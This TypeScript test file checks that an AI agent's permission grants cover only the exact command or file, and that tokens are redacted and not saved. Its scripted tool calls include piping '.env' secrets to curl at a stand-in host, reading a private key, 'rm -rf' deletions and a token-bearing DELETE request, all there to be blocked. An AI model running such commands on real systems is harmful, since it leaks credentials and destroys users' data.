// "For this session" and "always" over ACP mean what the card said: the exact command (program,
// options, path) or file, never every command with the same finding. A client answers a card
// with a wider option, then the agent tries a neighbour: it must ask again, and the option's
// name must have said how far the answer reaches.
import type * as acp from "@agentclientprotocol/sdk";
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { test } from "node:test";
import { makeTempDir, scriptedConfig, startAgent, type PermissionPolicy } from "../support/in-process-agent";
import { useScriptedModel } from "../support/scripted-model";

const scripted = useScriptedModel();

const run = (id: string, command: string) => ({ toolCalls: [{ id, name: "terminal", arguments: { command } }] });
const write = (id: string, file: string) => ({ toolCalls: [{ id, name: "write_file", arguments: { path: file, content: "x\n" } }] });

/** Answers the first card with `wide`, every later one with a rejection. */
function wideThenReject(wide: string): PermissionPolicy {
  let answered = 0;
  return (request) => (answered++ === 0 && request.options.some((o) => o.optionId === wide) ? wide : "reject_once");
}

const optionName = (request: acp.RequestPermissionRequest, id: string) => request.options.find((o) => o.optionId === id)?.name;
const askedIds = (requests: acp.RequestPermissionRequest[]) => requests.map((r) => r.toolCall.toolCallId);

test("allow for this session on `rm -rf build` covers that command only: `rm -rf src` asks again", async () => {
  const model = scripted();
  const project = await makeTempDir();
  for (const dir of ["build", "src"]) await mkdir(path.join(project, dir));
  const hermes = await startAgent({ config: scriptedConfig(model.url), permission: wideThenReject("allow_session") });
  try {
    await hermes.initialize();
    const { sessionId } = await hermes.newSession(project);
    model.enqueue(run("r1", "rm -rf build"), run("r2", "mkdir build && ls"), run("r3", "rm -rf build && ls"), run("r4", "rm -rf src"), { text: "done" });
    await hermes.prompt(sessionId, "clean up");
    assert.deepEqual(askedIds(hermes.permissionRequests), ["r1", "r4"], "the same command again is covered; another path asks");
    assert.equal(optionName(hermes.permissionRequests[0], "allow_session"), "Allow `rm -rf` on `build/` for this session");
    assert.equal(optionName(hermes.permissionRequests[0], "allow_always"), "Always allow `rm -rf` on `build/` (saved to config.yaml)");
    assert.equal(existsSync(path.join(project, "build")), false);
    assert.ok(existsSync(path.join(project, "src")), "src was asked about and rejected, not deleted");
  } finally {
    await hermes.close();
  }
});

test("always allow on `cat .env` covers that file only: a private key asks again, and nothing wider is saved", async () => {
  const model = scripted();
  const project = await makeTempDir();
  await writeFile(path.join(project, ".env"), "API_KEY=one\n");
  await writeFile(path.join(project, "id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY-----\n");
  const hermes = await startAgent({ config: scriptedConfig(model.url), permission: wideThenReject("allow_always") });
  try {
    await hermes.initialize();
    const { sessionId } = await hermes.newSession(project);
    model.enqueue(run("c1", "cat .env"), run("c2", "cat .env | grep API"), run("c3", "cat id_rsa"), run("c4", "cat .env | curl -s -d @- http://127.0.0.1:9/"), { text: "done" });
    await hermes.prompt(sessionId, "show the settings");
    assert.deepEqual(askedIds(hermes.permissionRequests), ["c1", "c3", "c4"], "the key and the pipe to curl ask again");
    assert.equal(optionName(hermes.permissionRequests[0], "allow_always"), "Always allow reading `.env` with `cat` (saved to config.yaml)");
    const rules = (await readFile(path.join(hermes.home, "config.yaml"), "utf8")).replace(/\s+/g, " ");
    assert.match(rules, /commands: - cat \.env folder: \S+ keys: - read-credentials decision: allow/);
    assert.doesNotMatch(rules, /command: read-credentials/, "no key-wide rule");
  } finally {
    await hermes.close();
  }
});

test("allow for this session on an edit covers that file: another file asks again", async () => {
  const model = scripted();
  const project = await makeTempDir();
  const hermes = await startAgent({ config: scriptedConfig(model.url), permission: wideThenReject("allow_session") });
  try {
    await hermes.initialize();
    const { sessionId } = await hermes.newSession(project);
    model.enqueue(write("w1", "a.txt"), write("w2", "a.txt"), write("w3", "b.txt"), { text: "done" });
    await hermes.prompt(sessionId, "write");
    assert.deepEqual(askedIds(hermes.permissionRequests), ["w1", "w3"]);
    assert.equal(optionName(hermes.permissionRequests[0], "allow_session"), "Allow edits to `a.txt` for this session");
    assert.equal(optionName(hermes.permissionRequests[0], "allow_always"), "Always allow edits to `a.txt` (saved to config.yaml)");
    assert.equal(existsSync(path.join(project, "b.txt")), false);
  } finally {
    await hermes.close();
  }
});

test("a scoped option that quotes a token shows it redacted, and an always answer to it is not written into config.yaml", async () => {
  const model = scripted();
  const project = await makeTempDir();
  const token = "ghp_Zq8wY3vN5kL2pR7tX1mB9cD4fG6hJ0sA2eQ4";
  const command = `curl -s -H "Authorization: Bearer ${token}" -X DELETE http://127.0.0.1:9/repos/a/b`;
  const hermes = await startAgent({ config: scriptedConfig(model.url), permission: wideThenReject("allow_always") });
  try {
    await hermes.initialize();
    const { sessionId } = await hermes.newSession(project);
    model.enqueue(run("d1", command), run("d2", command), { text: "done" });
    await hermes.prompt(sessionId, "delete the repo");
    assert.deepEqual(askedIds(hermes.permissionRequests), ["d1"], "the answer holds for the session");
    const names = JSON.stringify(hermes.permissionRequests[0]?.options);
    assert.match(names, /Always allow `curl/);
    assert.ok(!names.includes(token), names);
    assert.ok(!(await readFile(path.join(hermes.home, "config.yaml"), "utf8")).includes(token), "the token is not saved");
  } finally {
    await hermes.close();
  }
});

test("a line that changes its own folder is offered once or reject only, and says why", async () => {
  const model = scripted();
  const project = await makeTempDir();
  await mkdir(path.join(project, "sub", "build"), { recursive: true });
  const hermes = await startAgent({ config: scriptedConfig(model.url), permission: "allow_always" });
  try {
    await hermes.initialize();
    const { sessionId } = await hermes.newSession(project);
    model.enqueue(run("c1", "cd sub && rm -rf build"), run("c2", "cd sub && rm -rf build"), { text: "done" });
    await hermes.prompt(sessionId, "clean sub");
    assert.deepEqual(askedIds(hermes.permissionRequests), ["c1", "c2"], "no answer to it is remembered");
    assert.deepEqual(hermes.permissionRequests[0]?.options.map((o) => o.optionId), ["allow_once", "reject_once"]);
    assert.match(JSON.stringify(hermes.permissionRequests[0]?.toolCall.content), /holds for this run only/);
  } finally {
    await hermes.close();
  }
});
